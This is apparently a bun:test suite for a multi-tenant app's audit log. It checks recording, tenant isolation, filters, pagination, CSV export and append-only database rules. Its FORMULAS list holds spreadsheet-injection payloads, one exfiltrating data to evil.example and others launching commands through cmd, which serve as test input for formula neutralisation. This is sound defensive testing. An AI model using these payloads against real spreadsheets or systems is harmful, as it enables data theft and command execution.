// The audit log: sign-ins, failed sign-ins, role changes and key creation are
// recorded with who, what and from where; tenant-admins read their tenant's
// entries only, operator-admins read everything; filters and cursor pages
// work; the CSV export cannot smuggle formulas into a spreadsheet; and the
// app's database role can only ever append (both databases).

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { recordAudit } from "../../src/audit/service.ts";
import { withSystem, withTenant } from "../../src/db/scope.ts";
import { SYSTEM_ACTOR } from "../../src/lib/ctx.ts";
import { agent, signIn, signedIn, type Agent } from "../helpers/agent.ts";
import { PASSWORDS, seedCast, type Cast } from "../helpers/cast.ts";
import { dbKinds } from "../helpers/databases.ts";
import { manualClock, startPulse, type TestPulse } from "../helpers/pulse.ts";

// Hooks do not take bunfig's test timeout; booting Pulse on a busy machine can take longer than 5 s.
const HOOK_MS = 60_000;

interface Entry {
  id: number;
  time: string;
  tenant_id: string | null;
  actor_kind: string;
  actor_name: string;
  action: string;
  target_kind: string | null;
  target_id: string | null;
  ip: string | null;
  details: Record<string, unknown>;
}
interface Page {
  items: Entry[];
  next_cursor: string | null;
}

/** RFC 4180 CSV into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") row.push(cell), (cell = "");
    else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell), rows.push(row), (row = []), (cell = ""), i++;
    } else cell += ch;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];

describe("the audit log", () => {
  let pulse: TestPulse;
  let cast: Cast;
  const T0 = new Date("2026-07-01T12:00:00Z");
  const clock = manualClock(T0);
  let admin: Agent, alice: Agent, carol: Agent, oscar: Agent;
  const at = (minutes: number) => new Date(T0.getTime() + minutes * 60_000).toISOString();

  const page = async (a: Agent, query = ""): Promise<Page> => {
    const res = await a.fetch(`/api/v1/audit-log${query}`);
    if (res.status !== 200) throw new Error(`audit-log${query}: ${res.status} ${await res.text()}`);
    return (await res.json()) as Page;
  };

  beforeAll(async () => {
    pulse = await startPulse({ clock });
    cast = await seedCast(pulse.app);
    // T0: people sign in; bob mistypes his password.
    [admin, alice, carol, oscar] = await Promise.all([
      signedIn(pulse.url, "admin", PASSWORDS.admin),
      signedIn(pulse.url, "alice", PASSWORDS.alice),
      signedIn(pulse.url, "carol", PASSWORDS.carol),
      signedIn(pulse.url, "oscar", PASSWORDS.oscar),
    ]);
    expect((await signIn(agent(pulse.url), "bob", "bobs-wrong-password")).status).toBe(401);
    // T0+10 min: alice makes bob a tenant-admin and back.
    clock.advance(10 * 60_000);
    for (const role of ["tenant-admin", "customer"]) {
      expect((await alice.send(`/api/v1/users/${cast.bob.id}`, { method: "PATCH", body: JSON.stringify({ role }) })).status).toBe(200);
    }
    // T0+20 min: keys in both tenants.
    clock.advance(10 * 60_000);
    expect((await alice.send("/api/v1/api-keys", { method: "POST", body: JSON.stringify({ name: "acme-exporter", role: "customer" }) })).status).toBe(201);
    expect((await carol.send("/api/v1/api-keys", { method: "POST", body: JSON.stringify({ name: "globex-exporter", role: "customer" }) })).status).toBe(201);
    // T0+30 min: someone tries usernames that are spreadsheet formulas.
    clock.advance(10 * 60_000);
    for (const name of FORMULAS) expect((await signIn(agent(pulse.url), name, "irrelevant-password")).status).toBe(401);
  }, HOOK_MS);
  afterAll(() => pulse?.stop(), HOOK_MS);

  test("sign-ins, failed sign-ins, role changes and key creation are recorded with who, what, when and from where", async () => {
    const all = (await page(admin, "?limit=1000")).items;
    const find = (action: string, actor: string) => all.find((e) => e.action === action && e.actor_name === actor);

    expect(find("auth.login", "alice")).toMatchObject({ tenant_id: "acme", actor_kind: "user", time: at(0), details: { method: "password", client_id: "pulse-web" } });
    expect(find("auth.login", "alice")!.ip).toMatch(/127\.0\.0\.1/);
    expect(find("auth.login", "carol")).toMatchObject({ tenant_id: "globex" });
    // A failed sign-in of a known person is recorded in their tenant, so its admins see attacks on their people.
    expect(find("auth.login_failed", "bob")).toMatchObject({ tenant_id: "acme", time: at(0), details: { reason: "wrong password" } });
    expect(find("auth.login_failed", "bob")!.ip).toMatch(/127\.0\.0\.1/);

    const roles = all.filter((e) => e.action === "user.role_changed");
    expect(roles.map((e) => [e.actor_name, e.target_kind, e.target_id, e.tenant_id, e.time, e.details])).toEqual([
      ["alice", "user", cast.bob.id, "acme", at(10), { from: "tenant-admin", to: "customer" }],
      ["alice", "user", cast.bob.id, "acme", at(10), { from: "customer", to: "tenant-admin" }],
    ]);
    expect(find("apikey.created", "alice")).toMatchObject({ tenant_id: "acme", target_kind: "apikey", time: at(20), details: { name: "acme-exporter", role: "customer" } });
    expect(find("apikey.created", "carol")).toMatchObject({ tenant_id: "globex" });
  });

  test("a tenant-admin reads only her tenant's entries", async () => {
    const acme = (await page(alice, "?limit=1000")).items;
    expect(acme.length).toBeGreaterThan(0);
    expect(new Set(acme.map((e) => e.tenant_id))).toEqual(new Set(["acme"]));
    expect(acme.map((e) => e.action)).toEqual(expect.arrayContaining(["auth.login", "user.role_changed", "apikey.created"]));
    expect(acme.some((e) => e.actor_name === "carol")).toBe(false);
    // Asking for another tenant changes nothing.
    expect(new Set((await page(alice, "?tenant=globex&limit=1000")).items.map((e) => e.tenant_id))).toEqual(new Set(["acme"]));
    const globex = (await page(carol, "?limit=1000")).items;
    expect(new Set(globex.map((e) => e.tenant_id))).toEqual(new Set(["globex"]));
  });

  test("the operator-admin (and the operator) read every tenant's entries and the platform's", async () => {
    const all = (await page(admin, "?limit=1000")).items;
    expect(new Set(all.map((e) => e.tenant_id))).toEqual(new Set(["acme", "globex", null]));
    expect(new Set((await page(admin, "?tenant=globex&limit=1000")).items.map((e) => e.tenant_id))).toEqual(new Set(["globex"]));
    const seenByOscar = (await page(oscar, "?action=apikey.created")).items;
    expect(seenByOscar.map((e) => e.tenant_id).sort()).toEqual(["acme", "globex"]);
  });

  test("filters: action prefix, actor, time range", async () => {
    const auth = (await page(admin, "?action=auth.&limit=1000")).items;
    expect(auth.length).toBeGreaterThan(0);
    expect(auth.every((e) => e.action.startsWith("auth."))).toBe(true);
    expect(new Set(auth.map((e) => e.action))).toEqual(new Set(["auth.login", "auth.login_failed"]));
    expect((await page(admin, "?action=user.role")).items.map((e) => e.action)).toEqual(["user.role_changed", "user.role_changed"]);
    // Wildcards in the filter are literal characters.
    expect((await page(admin, "?action=%25")).items).toEqual([]);
    expect((await page(admin, "?action=auth_login")).items).toEqual([]);

    const byAlice = (await page(admin, "?actor=alice&limit=1000")).items;
    expect(byAlice.length).toBeGreaterThan(0);
    expect(byAlice.every((e) => e.actor_name === "alice")).toBe(true);
    expect((await page(admin, "?actor=alic_&limit=1000")).items).toEqual([]);

    const window = (await page(admin, `?from=${encodeURIComponent(at(5))}&to=${encodeURIComponent(at(15))}&limit=1000`)).items;
    expect(window.map((e) => e.action)).toEqual(["user.role_changed", "user.role_changed"]);
    const later = (await page(admin, `?from=${encodeURIComponent(at(20))}&limit=1000`)).items;
    expect(later.every((e) => e.time >= at(20))).toBe(true);
    expect(later.map((e) => e.action)).toContain("apikey.created");
    expect(later.map((e) => e.action)).not.toContain("user.role_changed");
    const combined = (await page(admin, `?action=apikey.&actor=carol&to=${encodeURIComponent(at(25))}`)).items;
    expect(combined.map((e) => [e.action, e.actor_name])).toEqual([["apikey.created", "carol"]]);

    const bad = await admin.fetch(`/api/v1/audit-log?from=${encodeURIComponent(at(15))}&to=${encodeURIComponent(at(5))}`);
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: { field: string } }).error.field).toBe("from");
    expect((await admin.fetch("/api/v1/audit-log?from=yesterday")).status).toBe(400);
  });

  test("cursor pagination walks every entry once, newest first, keeping the filters", async () => {
    /** Follow next_cursor from the first page to the last. */
    const walk = async (a: Agent, query: string, limit: number) => {
      const ids: number[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const p: Page = await page(a, `?${query}&limit=${limit}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ""}`);
        expect(p.items.length).toBeLessThanOrEqual(limit);
        ids.push(...p.items.map((e) => e.id));
        cursor = p.next_cursor;
        pages++;
      } while (cursor && pages < 100);
      return { ids, pages };
    };
    // Operator reads are themselves audited (operator.access), so the admin walks a filtered view that does not grow while it reads.
    for (const [a, query, limit] of [
      [alice, "", 2],
      [admin, "action=auth.", 3],
      [admin, "action=user.&tenant=acme", 1],
    ] as const) {
      const everything = (await page(a, `?${query}&limit=1000`)).items.map((e) => e.id);
      expect(everything.length).toBeGreaterThan(limit);
      const { ids, pages } = await walk(a, query, limit);
      expect(ids).toEqual(everything);
      expect([...ids].sort((x, y) => y - x)).toEqual(ids);
      // A last full page still offers a cursor, to an empty page.
      expect(pages).toBe(Math.floor(everything.length / limit) + 1);
    }

    const bad = await admin.fetch("/api/v1/audit-log?cursor=not-a-cursor");
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: { field: string } }).error.field).toBe("cursor");
  });

  test("the CSV export has the same entries, and neutralises cells a spreadsheet would run as formulas", async () => {
    const res = await admin.fetch("/api/v1/audit-log.csv?action=auth.login_failed");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toStartWith("text/csv");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="pulse-audit-.*\.csv"$/);
    const [header, ...rows] = parseCsv(await res.text());
    expect(header).toEqual(["id", "time", "tenant_id", "actor_kind", "actor_name", "action", "target_kind", "target_id", "ip", "request_id", "details"]);
    const json = (await page(admin, "?action=auth.login_failed&limit=1000")).items;
    expect(rows.map((r) => Number(r[0]))).toEqual(json.map((e) => e.id));

    const names = rows.map((r) => r[4]!);
    for (const formula of FORMULAS) expect(names).toContain(`'${formula}`);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // A tenant-admin's export holds her tenant only.
    const acme = parseCsv(await (await alice.fetch("/api/v1/audit-log.csv")).text()).slice(1);
    expect(acme.length).toBeGreaterThan(0);
    expect(new Set(acme.map((r) => r[2]))).toEqual(new Set(["acme"]));
    expect((await (await signedIn(pulse.url, "bob", PASSWORDS.bob)).fetch("/api/v1/audit-log.csv")).status).toBe(403);
  });
});

for (const kind of dbKinds()) {
  describe(`the audit log is append-only for the app on ${kind}`, () => {
    let pulse: TestPulse;
    beforeAll(async () => {
      pulse = await startPulse({ db: kind, listen: false });
      await seedCast(pulse.app);
    }, HOOK_MS);
    afterAll(() => pulse?.stop(), HOOK_MS);

    const snapshot = () => withSystem(pulse.app.db, (tx) => tx.query<{ id: number; action: string; actor_name: string }>("select id, action, actor_name from audit_log order by id"));

    test("the app runs as pulse_app, which neither bypasses RLS nor owns the table", async () => {
      const [who] = await pulse.app.db.query<{ user: string; bypass: boolean; superuser: boolean }>(
        "select current_user as user, rolbypassrls as bypass, rolsuper as superuser from pg_roles where rolname = current_user",
      );
      expect(who).toEqual({ user: "pulse_app", bypass: false, superuser: false });
    });

    test("UPDATE, DELETE and TRUNCATE as pulse_app fail, even in the system scope; nothing changes", async () => {
      const before = await snapshot();
      expect(before.length).toBeGreaterThan(0);
      const attempts: Array<[string, (tx: Parameters<Parameters<typeof withSystem>[1]>[0]) => Promise<unknown>, RegExp]> = [
        ["update", (tx) => tx.query("update audit_log set action = 'nothing.happened'"), /append-only/],
        ["update one", (tx) => tx.query("update audit_log set details = '{}' where id = $1", [before[0]!.id]), /append-only/],
        ["delete", (tx) => tx.query("delete from audit_log"), /append-only/],
        ["delete one", (tx) => tx.query("delete from audit_log where id = $1", [before.at(-1)!.id]), /append-only/],
        ["truncate", (tx) => tx.query("truncate audit_log"), /permission denied|must be owner/],
      ];
      for (const [what, run, why] of attempts) {
        const err = await withSystem(pulse.app.db, run).then(
          () => undefined,
          (e: unknown) => e as Error,
        );
        expect({ what, failed: err instanceof Error }).toEqual({ what, failed: true });
        expect(err!.message).toMatch(why);
      }
      // In a tenant's scope too.
      const tenant = await withTenant(pulse.app.db, { tenantId: "acme" }, (tx) => tx.query("delete from audit_log")).then(
        () => undefined,
        (e: unknown) => e as Error,
      );
      expect(tenant?.message).toMatch(/append-only/);
      expect(await snapshot()).toEqual(before);
    });

    test("appending still works", async () => {
      const before = (await snapshot()).length;
      await recordAudit({ db: pulse.app.db, clock: pulse.app.clock }, { tenantId: null, actor: SYSTEM_ACTOR, action: "test.appended" });
      const after = await snapshot();
      expect(after.length).toBe(before + 1);
      expect(after.at(-1)).toMatchObject({ action: "test.appended", actor_name: "system" });
    });
  });
}
